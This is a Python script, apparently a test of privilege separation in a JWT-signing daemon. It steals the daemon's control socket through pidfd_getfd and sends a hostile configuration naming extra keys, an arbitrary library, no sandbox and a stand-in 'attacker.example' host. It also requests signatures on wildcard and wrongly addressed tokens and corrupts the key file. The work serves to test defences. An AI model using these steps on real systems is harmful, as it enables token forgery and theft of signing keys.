"""What an attacker in the daemon gets from its signing process: stolen_orders.py DAEMON-PID KEY OTHER-KEY LIBRARY

It takes the daemon's own socket to the process that starts those with keys, as one who has taken over the daemon could, and orders by
it: keys that the configuration does not name, a library to run, no sandbox, descriptors of everything, and many processes. Then it
asks for signatures, and breaks the key file. It prints, as JSON, what it got. It needs the right to trace the daemon.
"""
import base64
import ctypes
import json
import os
import pathlib
import re
import socket
import sys
import tempfile
import time

PIDFD_OPEN, PIDFD_GETFD = 434, 438
LIBC = ctypes.CDLL(None, use_errno=True)
AUDIENCE = "https://fleetengine.googleapis.com/"
GOOGLE = "https://oauth2.googleapis.com/token"
ORDERS = 12


def children(pid):
    return [int(child) for child in pathlib.Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


def stolen(daemon):
    """The first socket of its type that the daemon made: the one by which it orders."""
    process = LIBC.syscall(PIDFD_OPEN, daemon, 0)
    for number in sorted(int(entry.name) for entry in pathlib.Path(f"/proc/{daemon}/fd").iterdir()):
        if os.readlink(f"/proc/{daemon}/fd/{number}").startswith("socket:"):
            found = socket.socket(fileno=LIBC.syscall(PIDFD_GETFD, process, number, 0))
            if found.family == socket.AF_UNIX and found.type & 0xF == socket.SOCK_SEQPACKET:
                return found
    sys.exit("expected the daemon to have such a socket")


def links(pid):
    """What a process's descriptors are."""
    return {os.readlink(entry) for entry in pathlib.Path(f"/proc/{pid}/fd").iterdir()}


def extras():
    """Descriptors of what no signing process needs, by name."""
    datagrams, streams = (socket.socketpair(socket.AF_UNIX, kind) for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM))
    return {"file": tempfile.TemporaryFile(), "internet": socket.socket(), "datagrams": datagrams[0], "streams": streams[0]}


def order(control, text, given=()):
    """Sends an order with sockets for its report and for signatures, and returns our ends of them."""
    pairs = [socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET) for _ in range(2)]
    descriptors = [pair[1].fileno() for pair in pairs] + [extra.fileno() for extra in given]
    socket.send_fds(control, [text], descriptors)
    for ours, theirs in pairs:
        theirs.close()
        ours.settimeout(600)
    return [ours for ours, _ in pairs]


def report(sockets):
    """None if no process has the other end."""
    return json.loads(sockets[0].recv(1 << 19) or b"null")


def end(sockets):
    for ours in sockets:
        ours.close()


def encoded(value):
    content = value if isinstance(value, bytes) else json.dumps(value, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(content).rstrip(b"=")


def messages(key):
    """What is asked to be signed, by name; the first is as it should be."""
    now, account = int(time.time()), key["client_email"]
    header = {"alg": "RS256", "typ": "JWT", "kid": key["private_key_id"]}
    claims = {"iss": account, "sub": account, "aud": AUDIENCE, "iat": now - 60, "exp": now + 540,
              "authorization": {"tripid": "trip-1"}}
    grant = {"iss": account, "aud": GOOGLE, "iat": now, "exp": now + 3600,
             "scope": "https://www.googleapis.com/auth/cloud-platform"}
    others = {"kind that is off": {"vehicleid": "vehicle-1"}, "wildcard": {"tripid": "*"},
              "server": {"tripid": "*", "vehicleid": "*"}, "every task": {"taskids": ["*"]},
              "object": {"tripid": {"a": "b"}}, "two kinds": {"tripid": "t", "taskids": ["t"]},
              "100 kB": {"taskids": [f"{number:064}" for number in range(1500)]}, "slash": {"tripid": "a/b"}}
    parts = {
        "token": claims,
        "grant": grant,
        "token of Google's token service": claims | {"aud": GOOGLE},
        "token of tomorrow": claims | {"iat": now + 86400, "exp": now + 86460},
        "longer token": claims | {"exp": now + 541},
        "spaces": json.dumps(claims).encode(),
    } | {name: claims | {"authorization": value} for name, value in others.items()}
    return {name: encoded(header) + b"." + encoded(part) for name, part in parts.items()} | {"bytes": b"bytes"}


def signature(channel, message):
    channel.send(b"\x01\x00\x00" + len(message).to_bytes(4, "big") + message)
    return int.from_bytes(channel.recv(1 << 16)[:2], "big")


def failure(control, path, change):
    change(path)
    sockets = order(control, b"load")
    entry = report(sockets)["entries"][0]
    end(sockets)
    return entry.get("failure")


def main(daemon, path, other, library):
    daemon = int(daemon)
    control, starter = stolen(daemon), children(daemon)[0]
    text = pathlib.Path(path).read_text()
    hostile = {"credentials": [other], "batch": library, "confined": 0, "default_accounts": 1, "audiences": [GOOGLE],
               "allowed_hosts": ["attacker.example"]}
    refused = order(control, json.dumps(hostile).encode())
    given = extras()
    known = set(children(starter))
    sockets = order(control, b"load", given.values())
    entries = report(sockets)["entries"]
    signing = (set(children(starter)) - known).pop()
    own = [(name, os.readlink(f"/proc/self/fd/{extra.fileno()}")) for name, extra in given.items()]
    got = {
        "refused": report(refused),
        "entries": [sorted(entry) for entry in entries],
        "runs_library": library in pathlib.Path(f"/proc/{signing}/maps").read_text(),
        "filters": re.search(r"Seccomp_filters:\t(\d+)", pathlib.Path(f"/proc/{signing}/status").read_text())[1],
        "kept": sorted(name for name, link in own if link in links(signing) | links(starter)),
        "signed": [name for name, message in messages(json.loads(text)).items() if signature(sockets[1], message)],
    }
    end(sockets)
    waiting = [order(control, b"load") for _ in range(ORDERS)]
    got["processes"] = 0
    for sockets in waiting:
        report(sockets)
        got["processes"] = max(got["processes"], len(children(starter)))
        end(sockets)
    got["failures"] = [failure(control, path, lambda path: pathlib.Path(path).write_text("{}")),
                       failure(control, path, os.remove)]
    print(json.dumps(got))


main(*sys.argv[1:])
